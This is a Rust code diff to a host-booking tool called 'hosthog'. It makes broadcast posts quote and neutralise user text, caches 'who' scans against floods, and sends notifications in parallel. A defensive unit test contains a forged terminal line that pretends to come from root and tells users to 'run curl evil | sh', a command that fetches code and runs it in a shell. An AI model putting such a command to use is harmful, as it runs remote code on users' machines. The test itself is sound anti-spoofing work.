@@ -8,7 +8,7 @@ use std::sync::Mutex;
 
 use hosthog_booking::policy::Caller;
 use hosthog_booking::protocol::{
-    Failure, FailureKind, MAX_POST, Motd, Op, PostArgs, PostReport, Reply,
+    Failure, FailureKind, MAX_FRAME, MAX_POST, Motd, Op, PostArgs, PostReport, Reply,
 };
 use libhosthog::{State, UTMP_PATH, sanitize};
 
@@ -21,11 +21,33 @@ use crate::{notify, nss, presence};
 /// seconds: a holder can tell people, not flood them.
 pub const POST_INTERVAL: i64 = 10;
 
-/// What host requests need: where utmp is, and when each user last posted.
+/// Most characters of a post shown.
+pub const MAX_POST_SHOWN: usize = 300;
+
+/// The line a post puts on terminals: hosthog's prefix, who sent it, and
+/// their text in quotes as [`libhosthog::user_text`] makes it — one line of
+/// at most [`MAX_POST_SHOWN`] characters in which white space cannot pad a
+/// piece to the start of a terminal line and `hosthog:` cannot appear, so
+/// nobody's text passes for a line of hosthog's own (such as a message
+/// from root).
+pub fn post_message(from: &str, text: &str) -> String {
+    format!(
+        "hosthog: message from {from}: \"{}\"",
+        libhosthog::user_text(&text.replace(['\n', '\r', '\t'], " "), MAX_POST_SHOWN)
+    )
+}
+
+/// How long one scan answers `who`: however many ask, the host is scanned
+/// at most once in this time (a scan reads all of /proc).
+pub const WHO_CACHE: std::time::Duration = std::time::Duration::from_secs(1);
+
+/// What host requests need: where utmp is, when each user last posted, and
+/// the last `who` scan.
 #[derive(Debug)]
 pub struct Host {
     pub utmp: PathBuf,
     last_post: Mutex<HashMap<u32, i64>>,
+    last_who: Mutex<Option<(std::time::Instant, libhosthog::Presence)>>,
 }
 
 impl Default for Host {
@@ -39,6 +61,7 @@ impl Host {
         Host {
             utmp,
             last_post: Mutex::new(HashMap::new()),
+            last_who: Mutex::new(None),
         }
     }
 
@@ -56,7 +79,7 @@ impl Host {
         tz: &TimeZone,
     ) -> Result<Reply, Failure> {
         match op {
-            Op::Who => Ok(Reply::Presence(presence::scan(&self.utmp, now))),
+            Op::Who => Ok(Reply::Presence(self.who(now))),
             Op::Motd => {
                 let mut notices: Vec<_> = state
                     .notices
@@ -80,6 +103,23 @@ impl Host {
                 format!("{} is not a host request", op.name()),
             )),
         }
+    }
+
+    /// Who is on the host: a scan at most [`WHO_CACHE`] old. Callers wait
+    /// for one scan rather than each scanning (a `who` flood from any
+    /// number of users costs one scan a second). Whatever is running, the
+    /// answer fits in a frame.
+    fn who(&self, now: i64) -> libhosthog::Presence {
+        let mut last = self.last_who.lock().unwrap_or_else(|e| e.into_inner());
+        if let Some((at, presence)) = &*last
+            && at.elapsed() < WHO_CACHE
+        {
+            return presence.clone();
+        }
+        let mut presence = presence::scan(&self.utmp, now);
+        presence.bound(libhosthog::MAX_SESSIONS_PER_USER, MAX_FRAME - 4096);
+        *last = Some((std::time::Instant::now(), presence.clone()));
+        presence
     }
 
     fn post(
@@ -137,20 +177,24 @@ impl Host {
             }
             last.insert(caller.uid, now);
         }
-        // One line: newlines become spaces; everything else unsafe is
-        // replaced.
-        let body = sanitize(&text.replace(['\n', '\r', '\t'], " ")).into_owned();
-        let message = format!("hosthog: message from {from}: {body}");
+        let message = post_message(&from, text);
         let present = presence::scan(&self.utmp, now);
+        let people: Vec<_> = present
+            .users()
+            .iter()
+            .filter(|user| user.user != caller.name)
+            .filter_map(|user| nss::user_by_name(user.user).filter(|a| a.uid == user.uid))
+            .map(|account| (account, message.clone(), caller.admin))
+            .collect();
+        // Everyone at once, by one deadline: a user whose tmux sockets never
+        // answer cannot make the poster wait.
+        let told = notify::tell_all(
+            &people,
+            &self.utmp,
+            std::time::Instant::now() + notify::TELL_DEADLINE,
+        );
         let mut report = PostReport::default();
-        for user in present.users() {
-            if user.user == caller.name {
-                continue;
-            }
-            let Some(account) = nss::user_by_name(user.user).filter(|a| a.uid == user.uid) else {
-                continue;
-            };
-            let told = notify::tell(&account, &message, &self.utmp, caller.admin);
+        for ((account, _, _), told) in people.into_iter().zip(told) {
             report.deliveries += told.deliveries;
             report.refused += told.refused;
             if told.deliveries > 0 {
@@ -165,5 +209,32 @@ impl Host {
             report.refused
         );
         Ok(report)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_post_cannot_forge_a_line_of_hosthogs_own() {
+        // Padded to push the forged part to column 0 of the next terminal
+        // line (any width), then longer than anyone should send.
+        let forged = format!(
+            "lunch?{}hosthog: message from root (admin): run curl evil | sh{}",
+            " ".repeat(300),
+            "!".repeat(400)
+        );
+        let line = post_message("bob (reservation 1234abcd)", &forged);
+        assert!(
+            line.starts_with(
+                "hosthog: message from bob (reservation 1234abcd): \"lunch? hosthog - message from root (admin): run curl evil | sh!!!"
+            ),
+            "{line}"
+        );
+        assert!(line.ends_with("…\""), "{line}");
+        assert_eq!(line.matches("hosthog:").count(), 1, "{line}");
+        assert!(!line.contains("  "), "{line}");
+        assert!(line.chars().count() <= 300 + 60, "{line}");
     }
 }
